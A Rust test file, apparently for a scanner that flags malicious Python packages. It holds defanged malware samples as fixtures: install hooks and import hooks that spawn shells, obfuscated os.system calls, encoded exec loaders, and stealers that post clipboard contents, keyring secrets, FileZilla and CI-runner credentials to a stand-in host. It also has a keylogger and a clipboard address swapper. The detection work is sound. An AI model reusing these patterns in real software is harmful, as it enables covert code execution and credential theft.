//! Process starts, hooks and captures the analyser did not see (testers t18 and t14, session
//! 15): setuptools' `spawn`, libc through ctypes, a browser named by a command line, callables
//! picked from a module's namespace by a filter, code the interpreter runs later through a hook
//! installed at import (import finders, `builtins.__import__`, enum, loader, property, dataclass
//! and `type()` methods, string annotations), stealer sources (the clipboard, the keyring, the
//! screen, FileZilla, another process's memory), listeners and input capture. Each is defanged
//! (hosts under `example.invalid`, commands only `echo`) and scanned with the library; nothing
//! is executed. Each kind has a benign look-alike that must stay below medium.

use airlock::finding::Severity;

#[path = "support/pysrc.rs"]
mod pysrc;
use pysrc::{benign, check};

use Severity::*;

#[test]
fn argv_spawns_with_a_shell_are_shell_commands() {
    check(&[
        // sd03: a build command's `self.spawn([...'sh', '-c', cmd])`.
        (
            "setup.py",
            "from setuptools import setup\nfrom setuptools.command.build_ext import build_ext\nclass B(build_ext):\n    def run(self):\n        self.spawn(['sh', '-c', 'echo t18'])\n        super().run()\nsetup(name='x', version='1.0', cmdclass={'build_ext': B})\n",
            "setup-install-hook",
            Some(High),
        ),
        // sd12: a command made from a `Distribution` at module level.
        (
            "setup.py",
            "from setuptools import setup, Command\nfrom setuptools.dist import Distribution\nclass C(Command):\n    user_options = []\n    def initialize_options(self): pass\n    def finalize_options(self): pass\n    def run(self): pass\nC(Distribution()).spawn(['sh', '-c', 'echo t18'])\nsetup(name='x', version='1.0')\n",
            "python-shell-command",
            Some(High),
        ),
        // sd08: a command's method replaced on its class, no cmdclass.
        (
            "setup.py",
            "import os\nfrom setuptools import setup\nfrom setuptools.command import build_py\n_orig = build_py.build_py.run\ndef run(self):\n    os.system('echo t18')\n    _orig(self)\nbuild_py.build_py.run = run\nsetup(name='x', version='1.0')\n",
            "python-shell-command",
            Some(High),
        ),
        // s34: distutils' spawn.
        (
            "m.py",
            "from setuptools._distutils.spawn import spawn\nspawn(['sh', '-c', 'echo t18'])\n",
            "python-shell-command",
            Some(High),
        ),
        (
            "m.py",
            "import distutils.spawn\ndistutils.spawn.spawn(['bash', '-c', 'echo t18'])\n",
            "python-shell-command",
            Some(High),
        ),
        // s36: libc's execl through ctypes.
        (
            "m.py",
            "import ctypes\nctypes.CDLL('libc.so.6').execl(b'/bin/sh', b'sh', b'-c', b'echo t18', None)\n",
            "python-shell-command",
            Some(High),
        ),
        (
            "m.py",
            "import ctypes, ctypes.util\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\nlibc.system(b'echo t18')\n",
            "python-shell-command",
            Some(High),
        ),
        // s33: a browser named by a command line.
        (
            "m.py",
            "import webbrowser\nwebbrowser.get('sh -c \"echo t18\" %s').open('x')\n",
            "python-shell-command",
            Some(High),
        ),
    ]);
}

#[test]
fn callables_picked_from_a_namespace_by_a_filter() {
    check(&[
        (
            "m.py",
            "import os\n[v for k, v in vars(os).items() if k.endswith('ystem')][0]('echo t18')\n",
            "python-shell-command",
            Some(High),
        ),
        (
            "m.py",
            "import inspect, os\nnext(f for n, f in inspect.getmembers(os) if n == 'sy' + 'stem')('echo t18')\n",
            "python-shell-command",
            Some(High),
        ),
        (
            "m.py",
            "import os\n[getattr(os, n) for n in dir(os) if n[::-1] == 'metsys'][0]('echo t18')\n",
            "python-shell-command",
            Some(High),
        ),
        (
            "m.py",
            "import os\nnext(v for v in os.__dict__.values() if getattr(v, '__name__', '') == 'sy' + 'stem')('echo t18')\n",
            "python-shell-command",
            Some(High),
        ),
        (
            "m.py",
            "import builtins\n[v for k, v in vars(builtins).items() if k == 'ex' + 'ec'][0]('print(1)')\n",
            "python-exec-computed",
            Some(High),
        ),
    ]);
}

#[test]
fn hooks_installed_at_import_run_their_code_at_import() {
    check(&[
        // s06: an import finder.
        (
            "m.py",
            "import os, sys\nclass _F:\n    def find_spec(self, name, path=None, target=None):\n        os.system('echo t18')\n        return None\nsys.meta_path.insert(0, _F())\nimport json\n",
            "python-shell-command",
            Some(High),
        ),
        // s39: `builtins.__import__` replaced.
        (
            "m.py",
            "import builtins, os\n_orig = builtins.__import__\ndef _imp(name, *a, **k):\n    os.system('echo t18')\n    return _orig(name, *a, **k)\nbuiltins.__import__ = _imp\n",
            "python-shell-command",
            Some(High),
        ),
        // s31: an enum's `_generate_next_value_` with `auto()`.
        (
            "m.py",
            "import enum, os\nclass E(enum.Enum):\n    def _generate_next_value_(name, start, count, last_values):\n        return os.system('echo t18')\n    A = enum.auto()\n",
            "python-shell-command",
            Some(High),
        ),
        // s22: an importlib loader whose `get_data` returns decoded code.
        (
            "m.py",
            "import base64, importlib.abc, importlib.util\nclass _L(importlib.abc.SourceLoader):\n    def get_filename(self, fullname):\n        return '<t18>'\n    def get_data(self, path):\n        return base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyB0MTgnKQo=')\nspec = importlib.util.spec_from_loader('t18mod', _L())\nmod = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(mod)\n",
            "python-exec-decoded",
            Some(Critical),
        ),
        // lit01: `ast.literal_eval` of a bytes literal is decoding.
        (
            "m.py",
            "import ast\nexec(ast.literal_eval('b\"import os\\\\nos.system(\\'echo t18\\')\\\\n\"'))\n",
            "python-exec-decoded",
            Some(Critical),
        ),
        // ob08: a property read on a new instance.
        (
            "m.py",
            "import os\nclass C:\n    @property\n    def p(self):\n        return os.system('echo t14')\nC().p\n",
            "python-shell-command",
            Some(High),
        ),
        // ob09: a dataclass field's factory.
        (
            "m.py",
            "import os\nfrom dataclasses import dataclass, field\n@dataclass\nclass C:\n    x: int = field(default_factory=lambda: os.system('echo t14'))\nCFG = C()\n",
            "python-shell-command",
            Some(High),
        ),
        // ob20: a string annotation evaluated by `get_type_hints`.
        (
            "m.py",
            "import typing\ndef f(a: \"__import__('os').system('echo t14')\"):\n    pass\ntyping.get_type_hints(f)\n",
            "python-shell-command",
            Some(High),
        ),
        // ob24: `type()` with a lambda `__init__`, instantiated.
        (
            "m.py",
            "import os\ntype('X', (), {'__init__': lambda self: os.system('echo t14') and None})()\n",
            "python-shell-command",
            Some(High),
        ),
        // t14 pe11: a venv's activate script appended to.
        (
            "__init__.py",
            "import os, sys\nwith open(os.path.join(sys.prefix, 'bin', 'activate'), 'a') as f:\n    f.write('\\necho t14\\n')\n",
            "python-startup-write",
            Some(High),
        ),
    ]);
}

#[test]
fn captured_input_sent_at_import_is_a_stealer() {
    let post = "requests.post('https://c.example.invalid/c', data=";
    let cases: Vec<(String, &str)> = vec![
        (format!("import os, requests\nwith open(os.path.expanduser('~/.config/filezilla/recentservers.xml'), 'rb') as f:\n    {post}f.read())\n"), "filezilla"),
        (format!("import pyperclip, requests\n{post}pyperclip.paste())\n"), "pyperclip"),
        (format!("import subprocess, requests\nclip = subprocess.check_output(['xclip', '-selection', 'clipboard', '-o'])\n{post}clip)\n"), "xclip"),
        (format!("import tkinter, requests\n{post}tkinter.Tk().clipboard_get())\n"), "tk"),
        ("import secretstorage, requests\nconn = secretstorage.dbus_init()\ncol = secretstorage.get_default_collection(conn)\nrequests.post('https://c.example.invalid/c', json=[i.get_secret().decode() for i in col.get_all_items()])\n".to_string(), "secretstorage"),
        ("import io, requests\nfrom PIL import ImageGrab\nb = io.BytesIO(); ImageGrab.grab().save(b, 'PNG')\nrequests.post('https://c.example.invalid/c', files={'f': b.getvalue()})\n".to_string(), "screenshot"),
        ("import glob, requests\nD = b''\nfor p in glob.glob('/proc/[0-9]*/cmdline'):\n    if b'Runner.Worker' in open(p, 'rb').read():\n        D = open(p.replace('cmdline', 'environ'), 'rb').read()\nrequests.post('https://c.example.invalid/u', data=str(D))\n".to_string(), "runner"),
        (format!("import requests\nwith open('/proc/%d/mem' % 1234, 'rb') as f:\n    {post}f.read(64))\n"), "proc-mem"),
        // t18 l18, l19: a runner's env file commands and its credentials in its home.
        (format!("import requests\nwith open('/home/runner/work/_temp/_runner_file_commands/set_env', 'rb') as f:\n    {post}f.read())\n"), "runner-env"),
        (format!("import requests\nwith open('/home/runner/.credentials', 'rb') as f:\n    {post}f.read())\n"), "runner-credentials"),
    ];
    let cases: Vec<(&str, &str, &str, Option<Severity>)> = cases
        .iter()
        .map(|(src, _)| {
            (
                "m.py",
                src.as_str(),
                "python-credential-stealer",
                Some(Critical),
            )
        })
        .collect();
    check(&cases);
}

#[test]
fn listeners_and_input_capture_started_at_import() {
    check(&[
        (
            "m.py",
            "import os, threading\nfrom xmlrpc.server import SimpleXMLRPCServer\nsrv = SimpleXMLRPCServer(('0.0.0.0', 8018), logRequests=False)\nsrv.register_function(os.system, 'run')\nthreading.Thread(target=srv.serve_forever, daemon=True).start()\n",
            "python-listener-at-load",
            Some(High),
        ),
        (
            "m.py",
            "import functools, http.server, os, threading\nH = functools.partial(http.server.SimpleHTTPRequestHandler, directory=os.path.expanduser('~'))\nsrv = http.server.ThreadingHTTPServer(('0.0.0.0', 8018), H)\nthreading.Thread(target=srv.serve_forever, daemon=True).start()\n",
            "python-listener-at-load",
            Some(High),
        ),
        (
            "m.py",
            "import logging.config\nt = logging.config.listen(9999)\nt.daemon = True\nt.start()\n",
            "python-listener-at-load",
            Some(Medium),
        ),
        (
            "m.py",
            "import re, threading, time, pyperclip\nADDR = 'bc1qexample'\ndef _loop():\n    while True:\n        s = pyperclip.paste()\n        if re.fullmatch(r'(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}', s or ''):\n            pyperclip.copy(ADDR)\n        time.sleep(0.5)\nthreading.Thread(target=_loop, daemon=True).start()\n",
            "python-input-capture",
            Some(Medium),
        ),
        (
            "m.py",
            "from pynput import keyboard\ndef on_press(k):\n    with open('/tmp/.k', 'a') as f:\n        f.write(str(k))\nkeyboard.Listener(on_press=on_press).start()\n",
            "python-input-capture",
            Some(Medium),
        ),
    ]);
}

#[test]
fn look_alikes_stay_below_medium() {
    benign(&[
        // A build command compiling with gcc.
        ("setup.py", "from setuptools import setup\nfrom setuptools.command.build_ext import build_ext\nclass B(build_ext):\n    def run(self):\n        self.spawn(['gcc', '-O2', '-c', 'x.c', '-o', 'x.o'])\n        super().run()\nsetup(name='x', version='1.0', cmdclass={'build_ext': B})\n"),
        ("m.py", "import numpy as np\nrng = np.random.default_rng(0)\nchildren = rng.spawn(4)\n"),
        // A browser opened by a function.
        ("m.py", "import webbrowser\ndef show(url):\n    webbrowser.open(url)\nBROWSER = webbrowser.get('firefox')\n"),
        // A method read, not called, on a new instance: only a property runs on a read.
        ("m.py", "import os\nclass Handler:\n    def handle(self, cmd):\n        os.system('echo ' + cmd)\nCALLBACK = Handler().handle\n"),
        // The same handler served on the loopback address only.
        ("m.py", "import socketserver, subprocess\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n        subprocess.run(self.request.recv(1024), shell=True)\nsocketserver.TCPServer(('127.0.0.1', 9001), H).serve_forever()\n"),
        // A test server on the loopback address, and one on every interface in a function.
        ("m.py", "import http.server, threading\ndef serve():\n    srv = http.server.HTTPServer(('127.0.0.1', 0), http.server.SimpleHTTPRequestHandler)\n    threading.Thread(target=srv.serve_forever, daemon=True).start()\n    return srv\ndef main():\n    http.server.ThreadingHTTPServer(('0.0.0.0', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()\n"),
        ("m.py", "import logging.config\ndef start_listener(port):\n    t = logging.config.listen(port)\n    t.start()\n    return t\n"),
        // Namespace loops over the module's own objects.
        ("m.py", "import inspect, os\nclass Cfg:\n    a = 1\n    def run(self):\n        return [v for k, v in vars(self).items() if not k.startswith('_')]\nRUNNERS = [f for n, f in inspect.getmembers(Cfg) if n == 'run']\nnext(f for n, f in inspect.getmembers(Cfg) if n == 'run')(Cfg())\n"),
        // An enum with a pure `_generate_next_value_`.
        ("m.py", "import enum\nclass E(enum.Enum):\n    def _generate_next_value_(name, start, count, last_values):\n        return name.lower()\n    A = enum.auto()\n    B = enum.auto()\n"),
        // The clipboard used by a function, no network.
        ("m.py", "import pyperclip\ndef copy_result(s):\n    old = pyperclip.paste()\n    pyperclip.copy(s)\n    return old\n"),
        // ctypes loading the project's own library.
        ("m.py", "import ctypes, os\n_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libfast.so'))\n_lib.fast_init()\n"),
        // `ast.literal_eval` of a version string, an import finder without commands, string
        // annotations of types, dataclass factories and properties that compute.
        ("setup.py", "import ast, re\nfrom setuptools import setup\nsrc = open('x/__init__.py').read()\nVERSION = ast.literal_eval(re.search(r'__version__ = (.*)', src).group(1))\nsetup(name='x', version=VERSION)\n"),
        ("m.py", "import sys, importlib.abc\nclass _F(importlib.abc.MetaPathFinder):\n    def find_spec(self, name, path=None, target=None):\n        return None\nsys.meta_path.append(_F())\n"),
        ("m.py", "import typing\nfrom dataclasses import dataclass, field\ndef f(a: 'typing.Optional[int]', b: 'typing.Dict[str, int]' = None) -> 'typing.List[int]':\n    return []\nHINTS = typing.get_type_hints(f)\n@dataclass\nclass C:\n    xs: list = field(default_factory=list)\n    n: int = field(default_factory=lambda: len('abc'))\n    @property\n    def size(self):\n        return len(self.xs)\nC().size\nX = type('X', (), {'__init__': lambda self: None, '__repr__': lambda self: 'X'})()\n"),
    ]);
}

/// Other spellings of the same kinds: each must be caught by the mechanism, not by a shape.
#[test]
fn other_spellings_of_the_same_kinds() {
    check(&[
        // A server whose request handler runs a shell command on what it receives.
        ("m.py", "import socketserver, subprocess\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n        subprocess.run(self.request.recv(1024), shell=True)\nsocketserver.TCPServer(('', 9001), H).serve_forever()\n", "python-listener-at-load", Some(High)),
        ("m.py", "from distutils.spawn import spawn as sp\nsp(['sh', '-c', 'echo x'])\n", "python-shell-command", Some(High)),
        ("m.py", "import ctypes\nlibc = ctypes.cdll.LoadLibrary('libc.so.6')\nlibc.execv(b'/bin/sh', None)\nlibc.execlp(b'sh', b'sh', b'-c', b'echo x', None)\n", "python-shell-command", Some(High)),
        ("m.py", "import webbrowser\nwebbrowser.register('x', None, webbrowser.GenericBrowser(['sh', '-c', 'echo x']))\nwebbrowser.get('x').open('u')\n", "python-shell-command", Some(High)),
        ("m.py", "import os\n{k: v for k, v in vars(os).items()}['sy' + 'stem']('echo x')\n", "python-shell-command", Some(High)),
        ("m.py", "import os, sys\nclass F:\n    @classmethod\n    def find_spec(cls, name, path=None, target=None):\n        os.system('echo x')\nsys.meta_path.append(F)\n", "python-shell-command", Some(High)),
        ("m.py", "import os, sys\ndef hook(p):\n    os.system('echo x')\n    raise ImportError\nsys.path_hooks.insert(0, hook)\nsys.path_importer_cache.clear()\n", "python-shell-command", Some(High)),
        ("m.py", "import builtins, os\ndef h(*a, **k):\n    os.system('echo x')\nsetattr(builtins, '__import__', h)\n", "python-shell-command", Some(High)),
        ("m.py", "import os\n__builtins__['__import__'] = lambda *a, **k: os.system('echo x')\n", "python-shell-command", Some(High)),
        ("m.py", "import os\nfrom functools import cached_property\nclass C:\n    @cached_property\n    def p(self):\n        return os.system('echo x')\nC().p\n", "python-shell-command", Some(High)),
        ("m.py", "from pyperclip import paste\nimport urllib.request\nurllib.request.urlopen('https://c.example.invalid/x', data=paste().encode())\n", "python-credential-stealer", Some(Critical)),
        ("m.py", "from logging.config import listen\nlisten(9999).start()\n", "python-listener-at-load", Some(Medium)),
        ("m.py", "import keyboard\nkeyboard.on_press(lambda e: open('/tmp/.k', 'a').write(e.name))\n", "python-input-capture", Some(Medium)),
        ("m.py", "import os, importlib.abc, importlib.util, zlib, base64\nclass L(importlib.abc.Loader):\n    def create_module(self, spec):\n        return None\n    def exec_module(self, module):\n        exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRKC5JLElVSEksSQQAKEEFsA==')), module.__dict__)\nspec = importlib.util.spec_from_loader('m', L())\nL().exec_module(importlib.util.module_from_spec(spec))\n", "python-exec-decoded", Some(Critical)),
        ("m.py", "import typing, os\nclass C:\n    x: \"os.system('echo x')\"\ntyping.get_type_hints(C)\n", "python-shell-command", Some(High)),
        ("m.py", "import os\nfrom dataclasses import dataclass, field\ndef mk():\n    return os.system('echo x')\n@dataclass\nclass C:\n    x: int = field(default_factory=mk)\nC()\n", "python-shell-command", Some(High)),
        ("m.py", "import os\nX = type('X', (), {'__init__': lambda self: None, '__del__': lambda self: os.system('echo x')})\nx = X()\n", "python-shell-command", Some(High)),
        ("m.py", "import os, sys\nwith open(os.path.join(os.environ['VIRTUAL_ENV'], 'bin', 'activate'), 'a') as f:\n    f.write('echo x')\n", "python-startup-write", Some(High)),
        ("m.py", "import ast\nexec(ast.literal_eval(\"'import os; os.system(\\\\'echo x\\\\')'\"))\n", "python-exec-decoded", Some(Critical)),
    ]);
}
